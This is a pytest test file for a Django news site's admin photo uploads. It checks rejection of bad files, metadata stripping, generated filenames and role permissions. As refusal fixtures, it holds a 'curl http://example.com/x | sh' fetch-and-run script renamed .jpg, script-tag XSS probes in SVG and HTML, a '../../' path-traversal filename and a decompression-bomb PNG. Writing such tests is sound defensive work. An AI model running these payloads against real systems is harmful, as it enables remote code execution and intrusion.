"""Photo uploads through the admin: bad files refused, good ones cleaned."""

import io
import re

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from PIL import Image

from articles import images
from articles.models import Photo
from tests.factories import (
    county,
    exif_jpeg_bytes,
    image_bytes,
    make_author,
    make_photo,
    make_staff,
    make_user,
    photo_upload,
    png_claiming_size,
    stored_files,
)

ADD_URL = "admin:articles_photo_add"
BULK_URL = "admin:articles_photo_bulk_upload"


def _oversized():
    return image_bytes(32, 32) + b"\0" * images.MAX_UPLOAD_BYTES


def _truncated_jpeg():
    data = image_bytes(400, 300, noise=True)
    return data[: len(data) // 2]


def _corrupt_png():
    data = bytearray(image_bytes(400, 300, "PNG", noise=True))
    data[100] ^= 0xFF  # inside the first IDAT chunk: its checksum fails
    return bytes(data)


# name -> (file content, words of the message the uploader must see)
BAD_FILES = {
    "zero-byte": (lambda: b"", "文件是空的"),
    "over 20 MB": (_oversized, "文件太大"),
    "over 40 megapixels": (
        lambda: image_bytes(8000, 5001, "PNG", mode="1"),
        "图片尺寸过大（8000×5001",
    ),
    "decompression bomb": (lambda: png_claiming_size(60000, 60000), "图片尺寸过大"),
    "truncated JPEG": (_truncated_jpeg, "已损坏或不完整"),
    "corrupt PNG": (_corrupt_png, "已损坏或不完整"),
    "SVG renamed .jpg": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script></svg>",
        "只接受 JPEG、PNG、WebP 或 GIF",
    ),
    "HTML renamed .jpg": (
        lambda: b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "只接受 JPEG、PNG、WebP 或 GIF",
    ),
    "script renamed .jpg": (
        lambda: b"#!/bin/sh\ncurl http://example.com/x | sh\n",
        "只接受 JPEG、PNG、WebP 或 GIF",
    ),
    "BMP renamed .jpg": (lambda: image_bytes(16, 16, "BMP"), "只接受 JPEG、PNG、WebP"),
}


def _add_form_data(image, **fields):
    data = {
        "image": image,
        "caption": "职工在车间里",
        "alt_text": "",
        "county_union": "",
        "taken_on": "",
        "credit_entries-TOTAL_FORMS": "0",
        "credit_entries-INITIAL_FORMS": "0",
    }
    data.update(fields)
    return data


def _bulk_data(image, **fields):
    data = {"image": image, "caption": "职工在车间里", "alt_text": ""}
    data.update(fields)
    return data


@pytest.mark.parametrize("kind", BAD_FILES)
def test_photo_form_refuses_bad_file_and_saves_nothing(admin_client, media_root, kind):
    content, message = BAD_FILES[kind]
    response = admin_client.post(
        reverse(ADD_URL), _add_form_data(photo_upload(content()))
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Photo.objects.exists() is False
    assert stored_files(media_root) == []


@pytest.mark.parametrize("kind", BAD_FILES)
def test_bulk_upload_refuses_bad_file_and_saves_nothing(
    admin_client, media_root, kind
):
    content, message = BAD_FILES[kind]
    response = admin_client.post(
        reverse(BULK_URL),
        _bulk_data(photo_upload(content())),
        headers={"accept": "application/json"},
    )
    assert response.status_code == 400
    assert message in " ".join(response.json()["errors"]["image"])
    assert Photo.objects.exists() is False
    assert stored_files(media_root) == []


def test_bulk_upload_without_script_shows_the_error_on_the_page(
    admin_client, media_root
):
    response = admin_client.post(
        reverse(BULK_URL), _bulk_data(photo_upload(b"<svg></svg>"))
    )
    assert response.status_code == 400
    assert "只接受 JPEG、PNG、WebP 或 GIF" in response.content.decode()
    assert Photo.objects.exists() is False
    assert stored_files(media_root) == []


def _stored_image(photo):
    with photo.image.open("rb") as stored:
        image = Image.open(io.BytesIO(stored.read()))
        image.load()
    return image


def test_upload_is_stored_upright_without_gps_or_other_metadata(admin_client, db):
    response = admin_client.post(
        reverse(ADD_URL), _add_form_data(photo_upload(exif_jpeg_bytes(60, 30)))
    )
    assert response.status_code == 302
    photo = Photo.objects.get()
    image = _stored_image(photo)
    assert image.size == (30, 60)
    assert (photo.width, photo.height) == (30, 60)
    red, blue = image.getpixel((15, 5)), image.getpixel((15, 55))
    assert red[0] > 180 and red[2] < 60
    assert blue[2] > 180 and blue[0] < 60
    assert dict(image.getexif()) == {}
    assert "exif" not in image.info and "xmp" not in image.info
    for width in photo.rendition_widths:
        with photo.image.storage.open(
            images.rendition_name(photo.image.name, width, "jpg")
        ) as stored:
            rendition = Image.open(io.BytesIO(stored.read()))
        assert dict(rendition.getexif()) == {}
        assert rendition.height > rendition.width


def test_upload_gets_a_generated_name_not_the_uploaders(admin_client, db):
    upload = photo_upload(image_bytes(), name="../../张楠 手机/IMG 0001.JPG")
    admin_client.post(reverse(ADD_URL), _add_form_data(upload))
    name = Photo.objects.get().image.name
    assert name.startswith("photos/") and name.endswith(".jpg")
    assert "张楠" not in name and "IMG" not in name and ".." not in name


@pytest.mark.parametrize(
    ("fmt", "extension"), [("PNG", "png"), ("WEBP", "webp"), ("GIF", "png")]
)
def test_real_format_decides_the_stored_format(admin_client, db, fmt, extension):
    upload = photo_upload(image_bytes(40, 30, fmt), name="renamed.jpg")
    admin_client.post(reverse(ADD_URL), _add_form_data(upload))
    photo = Photo.objects.get()
    assert photo.image.name.endswith(f".{extension}")
    assert _stored_image(photo).format == ("PNG" if fmt == "GIF" else fmt)


def test_caption_is_required_and_alt_text_defaults_to_it(admin_client, media_root):
    response = admin_client.post(
        reverse(ADD_URL), _add_form_data(photo_upload(image_bytes()), caption="")
    )
    assert response.status_code == 200
    assert Photo.objects.exists() is False
    assert stored_files(media_root) == []
    admin_client.post(reverse(ADD_URL), _add_form_data(photo_upload(image_bytes())))
    assert Photo.objects.get().alt_text == "职工在车间里"


def test_bulk_upload_saves_shared_defaults_and_credits_in_picked_order(
    admin_user, client, db
):
    client.force_login(admin_user)
    first, second = make_author("秦西江"), make_author("张楠")
    union = county("sheyang")
    data = _bulk_data(
        photo_upload(image_bytes(700, 467, noise=True)),
        caption="劳模工匠进校园",
        credits=[second.pk, first.pk],
        county_union=union.pk,
        taken_on="2024-02-18",
    )
    response = client.post(
        reverse(BULK_URL), data, headers={"accept": "application/json"}
    )
    assert response.status_code == 201
    photo = Photo.objects.get(pk=response.json()["id"])
    assert photo.credit_line == "张楠 秦西江 摄"
    assert photo.county_union == union
    assert str(photo.taken_on) == "2024-02-18"
    assert photo.uploaded_by == admin_user
    assert photo.alt_text == "劳模工匠进校园"
    assert photo.rendition_widths == [320, 640, 700]
    assert response.json()["url"] == reverse(
        "admin:articles_photo_change", args=[photo.pk]
    )


def test_bulk_upload_needs_a_caption_for_each_file(admin_client, media_root):
    response = admin_client.post(
        reverse(BULK_URL),
        _bulk_data(photo_upload(image_bytes()), caption=" "),
        headers={"accept": "application/json"},
    )
    assert response.status_code == 400
    assert "caption" in response.json()["errors"]
    assert Photo.objects.exists() is False
    assert stored_files(media_root) == []


@pytest.mark.parametrize(
    ("role", "status"),
    [("correspondent", 403), ("photographer", 201), ("editor", 201)],
)
def test_bulk_upload_is_for_photographers_and_editors(client, db, role, status):
    client.force_login(make_staff(role))
    response = client.post(
        reverse(BULK_URL),
        _bulk_data(photo_upload(image_bytes())),
        headers={"accept": "application/json"},
    )
    assert response.status_code == status
    assert Photo.objects.exists() is (status == 201)


def test_bulk_upload_page_needs_the_add_photo_permission(client, db):
    client.force_login(make_user(is_staff=True))
    assert client.get(reverse(BULK_URL)).status_code == 403
    user = make_user(is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="add_photo"))
    client.force_login(user)
    assert client.get(reverse(BULK_URL)).status_code == 200


def test_bulk_upload_page_ships_its_script_as_a_static_file(admin_client, db):
    html = admin_client.get(reverse(BULK_URL)).content.decode()
    assert "/static/articles/photo_bulk_upload.js" in html
    assert 'type="file" name="image" id="id_image" multiple' in html
    assert "<script>" not in html
    assert " onclick=" not in html and " onchange=" not in html
    assert re.search(r'(?:src|href|action)="(?:https?:)?//', html) is None
    changelist = admin_client.get(reverse("admin:articles_photo_changelist"))
    assert reverse(BULK_URL) in changelist.content.decode()


def test_replacing_a_placeholder_keeps_caption_and_credits(
    admin_client, seeded, media_root, django_capture_on_commit_callbacks
):
    photo = Photo.objects.filter(awaiting_original=True).first()
    caption, credit = photo.caption, photo.credit_line
    old_files = photo.stored_names()
    entries = list(photo.credit_entries.all())
    data = _add_form_data(
        photo_upload(image_bytes(900, 600, noise=True)),
        caption=photo.caption,
        alt_text=photo.alt_text,
        county_union=photo.county_union_id or "",
        awaiting_original="on",
        **{
            "credit_entries-TOTAL_FORMS": str(len(entries)),
            "credit_entries-INITIAL_FORMS": str(len(entries)),
        },
    )
    for i, entry in enumerate(entries):
        data[f"credit_entries-{i}-id"] = entry.pk
        data[f"credit_entries-{i}-photo"] = photo.pk
        data[f"credit_entries-{i}-position"] = entry.position
        data[f"credit_entries-{i}-author"] = entry.author_id
    url = reverse("admin:articles_photo_change", args=[photo.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:3000]
    photo = Photo.objects.get(pk=photo.pk)
    assert (photo.caption, photo.credit_line) == (caption, credit)
    assert photo.awaiting_original is False
    assert (photo.width, photo.height) == (900, 600)
    assert photo.rendition_widths == [320, 640, 900]
    remaining = stored_files(media_root)
    assert not set(old_files) & set(remaining)
    assert set(photo.stored_names()) <= set(remaining)


def test_deleting_a_photo_removes_its_files(
    db, media_root, django_capture_on_commit_callbacks
):
    photo = make_photo(image=photo_upload(image_bytes(700, 400)))
    assert len(stored_files(media_root)) == 1 + 3 * 2
    with django_capture_on_commit_callbacks(execute=True):
        photo.delete()
    assert stored_files(media_root) == []



def test_failed_admin_save_leaves_no_files(admin_client, media_root, monkeypatch):
    """The photo's files are written before the form's last steps; if one of
    those fails, the rollback removes the row and the files go with it."""
    from articles.admin import PhotoAdmin

    def broken_log(*args, **kwargs):
        raise RuntimeError("change log unavailable")

    monkeypatch.setattr(PhotoAdmin, "log_addition", broken_log)
    admin_client.raise_request_exception = False
    response = admin_client.post(
        reverse(ADD_URL), _add_form_data(photo_upload(image_bytes(800, 600)))
    )
    assert response.status_code == 500
    assert not Photo.objects.exists()
    assert stored_files(media_root) == []
